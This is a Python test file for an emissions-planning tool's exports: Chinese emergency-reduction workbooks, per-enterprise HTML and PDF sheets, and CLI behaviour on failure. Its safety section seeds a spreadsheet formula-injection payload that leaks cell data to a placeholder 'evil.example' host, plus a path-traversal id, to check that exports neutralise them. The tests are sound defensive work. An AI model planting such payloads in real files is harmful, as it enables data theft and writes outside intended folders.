"""Exports (planner.reports.export): the emergency list workbook read back with openpyxl, 一厂一策 HTML."""

from __future__ import annotations

import html.parser
import json

import openpyxl
import pandas as pd
import pytest
from tiny_city import PICKS, TINY_SHARES, solve_tiny  # noqa: F401 - shared with other suites

from planner.reports.export import (
    LIST_HEADERS,
    emergency_list_workbook,
    enterprise_sheet_html,
    enterprise_sheets,
    level_obligations,
)


@pytest.fixture(scope="module")
def tiny(tmp_path_factory, repo):
    return solve_tiny(tmp_path_factory.mktemp("tiny"), repo, extra=TINY_SHARES)


def test_tiny_plan_solves(tiny):
    assert tiny.status == "optimal"


def test_workbook_headers_measures_and_shares(tiny, tmp_path):
    path = emergency_list_workbook(tiny, tmp_path / "list.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["应急减排清单", "减排比例汇总"]
    ws = wb["应急减排清单"]
    assert "应急减排清单" in ws.cell(1, 1).value
    row2 = [ws.cell(2, c).value for c in range(1, len(LIST_HEADERS) + 1)]
    row3 = [ws.cell(3, c).value for c in range(1, len(LIST_HEADERS) + 1)]
    for h in (
        "序号",
        "企业名称",
        "统一社会信用代码",
        "区县",
        "行业类别",
        "绩效等级",
        "管控类型",
        "减排基数（核定产能最小值）",
    ):
        assert h in row2
    assert "生产线" in row2 and "数量（条）" in row3
    assert "应急减排措施" in row2 and "年排放量（吨/年）" in row2 and "橙色预警减排量（吨/日）" in row2
    assert row3[row2.index("应急减排措施") : row2.index("应急减排措施") + 3] == [
        "黄色预警",
        "橙色预警",
        "红色预警",
    ]
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert "A2:A3" in merged  # 序号 spans both header rows
    n = len(tiny.prepared.table)
    data = [[ws.cell(r, c).value for c in range(1, len(LIST_HEADERS) + 1)] for r in range(4, 4 + n)]
    assert [d[0] for d in data] == list(range(1, n + 1))
    assert ws.cell(4 + n, 1).value is None
    col = {k: i for i, (_, _, k) in enumerate(LIST_HEADERS)}
    by_code = {d[col["credit_code"]]: d for d in data}
    table = tiny.prepared.table
    # cement B at orange: 20 % of the min-of-three base, in the bureau's wording
    cement_b = table[(table["industry"].astype(str) == "cement") & (table["grade"].astype(str) == "B")].iloc[
        0
    ]
    d = by_code[cement_b["credit_code"]]
    assert d[col["measure_orange"]].startswith("橙色预警：限产20%（以核定产能最小值计）")
    assert d[col["grade_zh"]] == "B级" and d[col["industry_zh"]] == "水泥"
    # cement C stops at orange and red
    cement_c = table[(table["industry"].astype(str) == "cement") & (table["grade"].astype(str) == "C")].iloc[
        0
    ]
    assert "停产" in by_code[cement_c["credit_code"]][col["measure_red"]]
    # reductions per level equal the schedule's
    sched = tiny.schedule.set_index(["enterprise_id", "slot"])
    eid = str(cement_c.name)
    assert by_code[cement_c["credit_code"]][col["reduction_red_NOx"]] == pytest.approx(
        sched.loc[(eid, "red"), "reduction_NOx"]
    )
    # annual emissions back in t/a
    assert by_code[cement_c["credit_code"]][col["annual_NOx"]] == pytest.approx(
        float(cement_c["NOx"]) * float(cement_c["operating_days"])
    )
    # never an access code
    codes = set(table["access_code"].astype(str)) if "access_code" in table else set()
    cells = {str(v) for row in ws.iter_rows(values_only=True) for v in row if v is not None}
    assert not (codes & cells)
    assert not any("查询码" in c or "access" in c for c in cells)

    ss = wb["减排比例汇总"]
    rows = list(ss.iter_rows(values_only=True))
    head_i = next(i for i, r in enumerate(rows) if r[0] == "预警级别")
    head = rows[head_i]
    body = [dict(zip(head, r, strict=True)) for r in rows[head_i + 1 :] if r[0]]
    assert len(body) == 3 * 4
    orange_nox = next(r for r in body if r["预警级别"] == "橙色预警" and r["污染物"] == "氮氧化物")
    orange_share = TINY_SHARES["shares"]["orange"]
    assert orange_nox["要求减排比例"] == pytest.approx(orange_share)
    assert orange_nox["实现减排比例"] >= orange_share - 1e-6
    assert orange_nox["是否达标"] == "达标"
    slot = next(s for s in tiny.summary["slots"] if s["slot"] == "orange")
    assert orange_nox["合计减排量（吨/日）"] == pytest.approx(slot["achieved"]["NOx"])


def test_level_obligations_floor_plus_extra(tiny):
    ob = level_obligations(tiny)
    assert (ob["curtailment"] >= ob["floor"] - 1e-9).all()
    assert ob["extra"].ge(0).all()
    extra = ob[ob["extra"] > 1e-6]
    assert len(extra) >= 1
    assert all("追加减产" in t for t in extra["measure_text"])
    assert ob["loss_season"].sum() == pytest.approx(tiny.schedule["output_loss"].sum())


class _Collector(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def test_enterprise_sheet_html(tiny, tmp_path):
    table = tiny.prepared.table
    eid = str(
        table[(table["industry"].astype(str) == "cement") & (table["grade"].astype(str) == "C")].index[0]
    )
    page = enterprise_sheet_html(tiny, eid)
    p = _Collector()
    p.feed(page)
    text = "".join(p.text)
    assert page.startswith("<!DOCTYPE html>") and '<meta charset="utf-8">' in page
    assert str(table.loc[eid, "name"]) in text and str(table.loc[eid, "credit_code"]) in text
    assert "橙色预警" in text and "红色预警" in text and "规则下限" in text and "优化追加" in text
    assert "绩效等级提升后的变化" in text and "B级" in text  # C -> B
    # self-contained: no scripts, no external resources
    assert not any(t == "script" for t, _ in p.tags)
    assert not any(("src" in a or "href" in a) for _, a in p.tags)
    if "access_code" in table:
        assert str(table.loc[eid, "access_code"]) not in text
    with pytest.raises(KeyError):
        enterprise_sheet_html(tiny, "NOPE")
    paths = enterprise_sheets(tiny, tmp_path / "sheets", [eid])
    assert paths[0].name == f"{eid}.html" and paths[-1].name == "index.html"


def test_enterprise_sheet_self_directed_has_no_upgrade(tiny):
    table = tiny.prepared.table
    eid = str(table[table["grade"].astype(str) == "A"].index[0])
    text = enterprise_sheet_html(tiny, eid)
    assert "无更高一级" in text


def test_export_command(tiny, tmp_path, capsys):
    from planner.cli.main import main

    out = tmp_path / "exp"
    assert main(["export", str(tiny.scenario.file), "--out", str(out), "--sheets", "all"]) == 0
    assert (out / "应急减排清单.xlsx").is_file()
    sheets = sorted(p.name for p in (out / "一厂一策").glob("*.html"))
    assert len(sheets) == len(tiny.prepared.table) + 1 and "index.html" in sheets
    assert main(["export", str(tiny.scenario.file), "--out", str(out), "--sheets", "NOPE"]) == 2


def test_yes_no_is_na_safe():
    from planner.reports.export import _yes_no

    assert [_yes_no(v) for v in (True, False, pd.NA, None, float("nan"), "是", "no", 1, 0)] == [
        "是",
        "否",
        "",
        "",
        "",
        "是",
        "否",
        "是",
        "否",
    ]


def test_sheet_and_list_with_blank_optional_fields(tiny, tmp_path):
    import dataclasses

    table = tiny.prepared.table.copy()
    eid = str(table.index[0])
    for col in ("town", "park", "line_description", "capacity_unit", "permit_no"):
        if col in table:
            table[col] = table[col].astype(object)
            table.loc[eid, col] = None
    if "power_submetering" in table:
        table["power_submetering"] = table["power_submetering"].astype("boolean")
        table.loc[eid, "power_submetering"] = pd.NA
    prepared = dataclasses.replace(tiny.prepared, table=table)
    result = dataclasses.replace(tiny, prepared=prepared)
    page = enterprise_sheet_html(result, eid)
    assert "nan" not in page and "None" not in page and "&lt;NA&gt;" not in page
    path = emergency_list_workbook(result, tmp_path / "l.xlsx")
    ws = openpyxl.load_workbook(path)["应急减排清单"]
    assert ws.cell(4, 1).value == 1


def test_enterprise_sheet_pdf(tiny, tmp_path):
    """PDF only with the optional reportlab package; otherwise a clear error naming the HTML sheet."""
    from planner.reports.export import enterprise_sheet_pdf

    eid = str(tiny.prepared.table.index[2])
    try:
        import reportlab  # noqa: F401
    except ImportError:
        with pytest.raises(RuntimeError, match="reportlab"):
            enterprise_sheet_pdf(tiny, eid)
        return
    pdf = enterprise_sheet_pdf(tiny, eid, tmp_path / "s.pdf")
    assert pdf.startswith(b"%PDF") and (tmp_path / "s.pdf").read_bytes() == pdf
    assert b"STSong-Light" in pdf and b"UniGB-UCS2-H" in pdf
    assert pdf.count(b"/Type /Page\n") + pdf.count(b"/Type /Page ") >= 1


def test_sheet_data_has_no_access_code(tiny):
    from planner.reports.export import enterprise_sheet_data

    table = tiny.prepared.table
    for eid in table.index.astype(str):
        d = enterprise_sheet_data(tiny, eid)
        text = repr(d)
        if "access_code" in table:
            assert str(table.loc[eid, "access_code"]) not in text
        assert d["levels"] and d["info"][0] == ("企业名称", str(table.loc[eid, "name"]))


# --------------------------------------------------------------------------- safety (issue 14)
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
#: A name per trigger character, and a county that is a plain negative number (must stay as is).
#: (The inventory reader strips a leading tab and splits at a CR; the writers' own tests cover those.)
EVIL_ROWS = {0: EVIL, 1: "+SUM(1,2)", 2: "-2+3", 3: "@cmd", 4: "-SUM(A1)", 5: "=1+1"}
LONG_ID = "E" * 300
ESCAPE_ID = "../../escaped_E0001"


def _evil(frame):
    for i, name in EVIL_ROWS.items():
        frame.iloc[i, frame.columns.get_loc("name")] = name
    frame.iloc[6, frame.columns.get_loc("county")] = "-12.5"
    frame.iloc[7, frame.columns.get_loc("enterprise_id")] = ESCAPE_ID
    frame.iloc[8, frame.columns.get_loc("enterprise_id")] = LONG_ID
    return frame


@pytest.fixture(scope="module")
def evil(tmp_path_factory, repo):
    """The tiny city with formula-like names and ids that try to leave the output folder."""
    return solve_tiny(tmp_path_factory.mktemp("evil"), repo, extra=TINY_SHARES, edit=_evil)


def _sheet_xml(path, sheet=1) -> str:
    import zipfile

    with zipfile.ZipFile(path) as z:
        return z.read(f"xl/worksheets/sheet{sheet}.xml").decode("utf-8")


def test_list_workbook_keeps_formula_like_names_as_text(evil, tmp_path):
    assert evil.status == "optimal"
    path = emergency_list_workbook(evil, tmp_path / "list.xlsx")
    assert "<f>" not in _sheet_xml(path)  # no formula anywhere
    ws = openpyxl.load_workbook(path)["应急减排清单"]
    col = {k: i + 1 for i, (_, _, k) in enumerate(LIST_HEADERS)}
    names = {ws.cell(r, col["name"]).value: ws.cell(r, col["name"]) for r in range(4, 4 + 9)}
    for name in EVIL_ROWS.values():
        cell = names[name]  # written verbatim, as text, with Excel's quote prefix
        assert cell.data_type == "s" and cell.quotePrefix, name
    counties = [ws.cell(r, col["county"]).value for r in range(4, 4 + 9)]
    assert "-12.5" in counties  # a text that is a plain number is left alone
    plain = next(c for n, c in names.items() if n not in EVIL_ROWS.values())
    assert not plain.quotePrefix
    # numbers stay numbers
    assert all(isinstance(ws.cell(r, col["annual_NOx"]).value, (int, float)) for r in range(4, 4 + 9))


def test_plan_outputs_neutralise_formulas(evil, tmp_path):
    import csv

    from planner.reports.outputs import write_outputs

    paths = write_outputs(evil, tmp_path / "plan")
    rows = list(csv.DictReader(paths["schedule"].open(encoding="utf-8")))
    names = {r["name"] for r in rows}
    assert {"'" + n for n in EVIL_ROWS.values()} <= names
    assert "'-2+3" in names and not any(n.startswith(("=", "+", "@")) for n in names)
    # numbers untouched: curtailment and reductions parse as floats, loss re-checks
    back = pd.read_csv(paths["schedule"])
    assert back["output_loss"].sum() == pytest.approx(evil.schedule["output_loss"].sum())
    assert pd.api.types.is_float_dtype(back["curtailment"])
    wb = openpyxl.load_workbook(paths["workbook"])
    assert "<f>" not in _sheet_xml(paths["workbook"], 3)
    ws = wb["企业措施"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_neutralise_keeps_numbers():
    from planner.io.writing import formula_like, neutralise_frame, neutralise_text

    df = pd.DataFrame(
        {
            "x": [-1.5, 2.0, -3.0],
            "n": [-1, 2, 3],
            "t": ["-12.5", "-x", "+3e5"],
            "u": ["=1", "a=b", None],
        }
    )
    out = neutralise_frame(df)
    assert out["x"].tolist() == [-1.5, 2.0, -3.0] and out["n"].dtype == df["n"].dtype
    assert out["t"].tolist() == ["-12.5", "'-x", "+3e5"]
    assert out["u"].tolist()[:2] == ["'=1", "a=b"] and pd.isna(out["u"].iloc[2])
    assert neutralise_text("@SUM(A1)") == "'@SUM(A1)" and neutralise_text(-3) == -3
    assert not formula_like("-0.5") and formula_like("-") and formula_like("\r")
    assert neutralise_frame(df.iloc[:, :2]) is not None


def test_export_file_names_stay_inside_out(evil, tmp_path):
    from planner.cli.main import main

    out = tmp_path / "exp"
    code = main(["export", str(evil.scenario.file), "--out", str(out), "--sheets", "all"])
    assert code == 0
    files = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert all(out in p.parents for p in files), files
    sheets = out / "一厂一策"
    names = sorted(p.name for p in sheets.iterdir())
    assert len(names) == 9 + 1
    assert all(len(n.encode()) <= 130 and "/" not in n and not n.startswith(".") for n in names)
    assert not (tmp_path / "escaped_E0001.html").exists()
    index = (sheets / "index.html").read_text(encoding="utf-8")
    from urllib.parse import unquote

    hrefs = [unquote(h) for h in __import__("re").findall(r'href="([^"]+)"', index)]
    assert sorted(hrefs) == sorted(n for n in names if n != "index.html")
    assert ESCAPE_ID in index  # the link text shows the real id (escaped)
    # the sheet of the firm with the long id is there under a short safe name
    from planner.io.writing import safe_filename

    assert (sheets / f"{safe_filename(LONG_ID)}.html").is_file()
    assert (sheets / f"{safe_filename(ESCAPE_ID)}.html").is_file()


def _tree(folder):
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_failed_export_leaves_nothing(tiny, tmp_path, monkeypatch, capsys):
    """--sheets with an unknown id, --pdf without reportlab, a failure mid-way: --out is unchanged."""
    import sys

    from planner.cli.main import main

    out = tmp_path / "exp"
    scen = str(tiny.scenario.file)
    assert main(["export", scen, "--out", str(out), "--sheets", "measured"]) == 0
    before = _tree(out)
    assert main(["export", scen, "--out", str(out), "--sheets", "E9999"]) == 2
    assert "E9999" in capsys.readouterr().err
    assert _tree(out) == before
    new = tmp_path / "fresh"
    assert main(["export", scen, "--out", str(new), "--sheets", "E9999"]) == 2
    assert not new.exists()
    monkeypatch.setitem(sys.modules, "reportlab", None)  # import reportlab -> ImportError
    assert main(["export", scen, "--out", str(out), "--sheets", "all", "--pdf"]) == 2
    assert "reportlab" in capsys.readouterr().err
    assert _tree(out) == before
    monkeypatch.delitem(sys.modules, "reportlab")
    # a failure after some files were written (here: the 4th sheet)
    import planner.reports.export as export

    real = export.enterprise_sheet_html
    calls = []

    def flaky(*args, **kwargs):
        calls.append(1)
        if len(calls) == 4:
            raise OSError(28, "No space left on device")
        return real(*args, **kwargs)

    monkeypatch.setattr(export, "enterprise_sheet_html", flaky)
    assert main(["export", scen, "--out", str(out), "--sheets", "all"]) == 4  # I/O error
    assert "No space left" in capsys.readouterr().err
    assert _tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["exp"]  # no staged folder left behind


def test_failed_plan_leaves_previous_outputs(tiny, tmp_path, monkeypatch, capsys):
    from planner.cli.main import main

    out = tmp_path / "plan"
    out.mkdir()
    (out / "notes.txt").write_text("mine", encoding="utf-8")
    scen = str(tiny.scenario.file)
    assert main(["plan", scen, "--out", str(out)]) == 0
    before = _tree(out)
    assert set(before) == {"notes.txt", "schedule.csv", "summary.json", "plan.xlsx"}
    import planner.reports.outputs as outputs

    def broken(*args, **kwargs):
        raise OSError(30, "Read-only file system")

    monkeypatch.setattr(outputs, "plan_workbook", broken)
    capsys.readouterr()
    assert main(["plan", scen, "--out", str(out), "--format", "json"]) == 4  # I/O error
    captured = capsys.readouterr()
    assert "Read-only" in captured.out + captured.err and str(out) in captured.out + captured.err
    assert ".partial" not in captured.out + captured.err  # the staged folder is not named
    if captured.out:
        json.loads(captured.out)  # --format json: only JSON on stdout
    assert _tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan"]


def test_schedule_parquet_and_csv(tiny, tmp_path):
    from planner.cli.main import main

    out = tmp_path / "p"
    assert main(["plan", str(tiny.scenario.file), "--out", str(out), "--schedule-format", "parquet"]) == 0
    back = pd.read_parquet(out / "schedule.parquet")
    pd.testing.assert_frame_equal(back.reset_index(drop=True), tiny.schedule.reset_index(drop=True))
    assert (out / "schedule.csv").is_file() and (out / "plan.xlsx").is_file()
    out2 = tmp_path / "c"
    assert main(["plan", str(tiny.scenario.file), "--out", str(out2)]) == 0
    assert not (out2 / "schedule.parquet").exists()


def test_plan_workbook_too_many_rows_keeps_summary_and_totals(tiny, tmp_path):
    from planner.reports.views import plan_workbook

    full = openpyxl.load_workbook(plan_workbook(tiny, tmp_path / "full.xlsx"))
    assert full.sheetnames == ["概要", "目标", "企业措施", "企业汇总"]
    assert full["企业措施"].max_row == len(tiny.schedule) + 1
    small = openpyxl.load_workbook(
        plan_workbook(tiny, tmp_path / "cut.xlsx", max_rows=len(tiny.schedule) - 1)
    )
    assert small.sheetnames == ["概要", "目标", "企业汇总"]
    notes = [r for r in small["概要"].iter_rows(values_only=True) if r[0] == "企业措施"]
    assert notes and "schedule.csv" in notes[0][1] and f"{len(tiny.schedule):,}" in notes[0][1]
    rows = list(small["企业汇总"].iter_rows(values_only=True))
    head, body = rows[0], rows[1:]
    assert len(body) == len(tiny.prepared.table)
    total = sum(r[head.index("产值损失合计（万元）")] for r in body)
    assert total == pytest.approx(tiny.schedule["output_loss"].sum())
    days = dict(zip(tiny.prepared.inputs["slot"].values, tiny.prepared.inputs["days"].values, strict=True))
    nox = (tiny.schedule["reduction_NOx"] * tiny.schedule["slot"].map(days)).sum()
    assert sum(r[head.index("氮氧化物减排量合计（吨）")] for r in body) == pytest.approx(nox)
    overview = dict(r for r in full["概要"].iter_rows(min_row=2, values_only=True))
    assert overview["清单企业数"] == len(tiny.prepared.table)  # numbers stay numbers
    assert isinstance(overview["产值损失合计（万元）"], float)
    # issue 14: the summary sheet is in Chinese (labels and values), no English headers
    from planner.app.i18n import raw_terms

    text = " ".join(f"{k} {v}" for k, v in overview.items() if not isinstance(v, float))
    assert [c.value for c in full["概要"][1]] == ["项目", "内容"]
    assert raw_terms(text, "zh", allow={tiny.summary["scenario"], tiny.summary["solver"]}) == []
